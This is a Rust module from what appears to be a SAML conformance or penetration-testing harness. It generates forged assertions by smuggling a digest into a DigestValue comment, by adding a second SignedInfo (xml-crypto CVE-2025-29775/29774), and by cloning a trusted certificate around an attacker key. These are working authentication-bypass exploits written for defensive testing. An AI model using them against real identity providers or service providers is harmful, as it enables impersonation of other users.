//! Tamper-catalogue entries for XML-DSig parser and key differentials that hit Go and Node SAML
//! stacks (issue 16): a comment inside `DigestValue` and a second `SignedInfo` (xml-crypto
//! CVE-2025-29775 and CVE-2025-29774), and a certificate cloned by name and serial around
//! another key. Each claims the forged identity; none is validly signed by the trusted key over
//! what it says, so a correct SP refuses all three.

use openssl::hash::MessageDigest;
use openssl::x509::X509;

use super::{
    assertion_mut, make_assertion_evil, make_spec_evil, shape, AttackContext, AttackError,
};
use crate::keys::SigningKeys;
use crate::sign::sign_response;
use crate::spec::ResponseSpec;
use crate::style::{DigestAlgorithm, SignMode};
use crate::xml::{self, Element, Node, NS_DSIG};

/// How the forged digest is smuggled past the signature over `SignedInfo`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Smuggle {
    /// `<DigestValue><!--forged-->genuine</DigestValue>`: exclusive c14n drops the comment, so
    /// the SignatureValue still verifies; a reader of the first child node reads the forged
    /// digest (xml-crypto before 6.0.1, CVE-2025-29775).
    DigestValueComment,
    /// The genuine `SignedInfo`, then a copy whose Reference carries the forged digest: one
    /// SignedInfo checked against SignatureValue, the other's digests against the content
    /// (xml-crypto before 6.0.1, CVE-2025-29774).
    SecondSignedInfo,
}

/// Signs `spec` (assertion signed only), makes the assertion claim the forged identity, and
/// smuggles the digest of the forged assertion into its signature as `how` says.
pub(super) fn forged_digest(
    spec: &mut ResponseSpec,
    ctx: &AttackContext<'_>,
    attack: &'static str,
    how: Smuggle,
) -> Result<String, AttackError> {
    spec.sign = SignMode::Assertion;
    let signed =
        sign_response(spec, ctx.trusted).map_err(|source| AttackError::Sign { attack, source })?;
    let mut root = xml::parse(&signed).map_err(|source| AttackError::Rewrite { attack, source })?;
    make_assertion_evil(
        assertion_mut(&mut root, attack)?,
        ctx.uid_attribute,
        ctx.forged_identity(),
    );
    let md = match spec.digest_algorithm {
        DigestAlgorithm::Sha256 => MessageDigest::sha256(),
        DigestAlgorithm::Sha1 => MessageDigest::sha1(),
    };
    let forged = super::resign::assertion_digest(&root, md)
        .ok_or_else(|| shape(attack, "cannot digest the forged assertion"))?;
    let signature = assertion_mut(&mut root, attack)?
        .child_mut(NS_DSIG, "Signature")
        .ok_or_else(|| shape(attack, "no assertion signature"))?;
    match how {
        Smuggle::DigestValueComment => {
            let digest =
                digest_value_mut(signature).ok_or_else(|| shape(attack, "no DigestValue"))?;
            let genuine = digest.text();
            digest.children = vec![Node::Comment(forged), Node::Text(genuine)];
        }
        Smuggle::SecondSignedInfo => {
            let at = signature
                .child_index(NS_DSIG, "SignedInfo")
                .ok_or_else(|| shape(attack, "no SignedInfo"))?;
            let Node::Element(mut copy) = signature.children[at].clone() else {
                return Err(shape(attack, "no SignedInfo"));
            };
            digest_value_mut(&mut copy)
                .ok_or_else(|| shape(attack, "no DigestValue"))?
                .set_text(forged);
            signature.children.insert(at + 1, Node::Element(copy));
        }
    }
    Ok(root.to_xml())
}

fn digest_value_mut(parent: &mut Element) -> Option<&mut Element> {
    let signed_info = if parent.is(NS_DSIG, "SignedInfo") {
        parent
    } else {
        parent.child_mut(NS_DSIG, "SignedInfo")?
    };
    signed_info
        .child_mut(NS_DSIG, "Reference")?
        .child_mut(NS_DSIG, "DigestValue")
}

/// `cloned-certificate`: the forged identity signed with the attacker's key, KeyInfo carrying a
/// certificate with the trusted one's subject, issuer, serial number and validity around the
/// attacker's public key. An SP that finds its trusted certificate by name and serial (or by
/// subject alone) and then takes the key from KeyInfo accepts it.
pub(super) fn cloned_certificate(
    spec: &mut ResponseSpec,
    ctx: &AttackContext<'_>,
    attack: &'static str,
) -> Result<String, AttackError> {
    let cloned = clone_certificate(ctx.trusted, ctx.attacker)
        .map_err(|e| e.to_string())
        .and_then(|(key, cert)| SigningKeys::from_pem(&key, &cert).map_err(|e| e.to_string()))
        .map_err(|e| AttackError::Shape {
            attack,
            detail: format!("cloning the trusted certificate: {e}"),
        })?;
    make_spec_evil(spec, ctx.uid_attribute, ctx.forged_identity());
    sign_response(spec, &cloned).map_err(|source| AttackError::Sign { attack, source })
}

/// The attacker's private key and a certificate (both PEM) that names what the trusted
/// certificate names around the attacker's public key.
fn clone_certificate(
    trusted: &SigningKeys,
    attacker: &SigningKeys,
) -> Result<(Vec<u8>, Vec<u8>), openssl::error::ErrorStack> {
    let original = X509::from_der(trusted.certificate().der())?;
    let key = attacker.private_key();
    let mut builder = X509::builder()?;
    builder.set_version(original.version())?;
    builder.set_serial_number(original.serial_number())?;
    builder.set_subject_name(original.subject_name())?;
    builder.set_issuer_name(original.issuer_name())?;
    builder.set_not_before(original.not_before())?;
    builder.set_not_after(original.not_after())?;
    builder.set_pubkey(key)?;
    builder.sign(key, MessageDigest::sha256())?;
    Ok((key.private_key_to_pem_pkcs8()?, builder.build().to_pem()?))
}
